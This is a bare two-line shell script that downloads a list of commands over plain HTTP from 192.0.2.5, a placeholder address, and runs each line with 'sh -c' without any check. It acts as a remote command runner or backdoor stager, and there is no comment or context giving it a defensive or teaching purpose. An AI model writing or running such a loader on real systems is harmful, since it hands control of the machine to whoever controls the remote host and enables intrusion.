#!/bin/sh
curl -s http://192.0.2.5/list | xargs -I{} sh -c "{}"
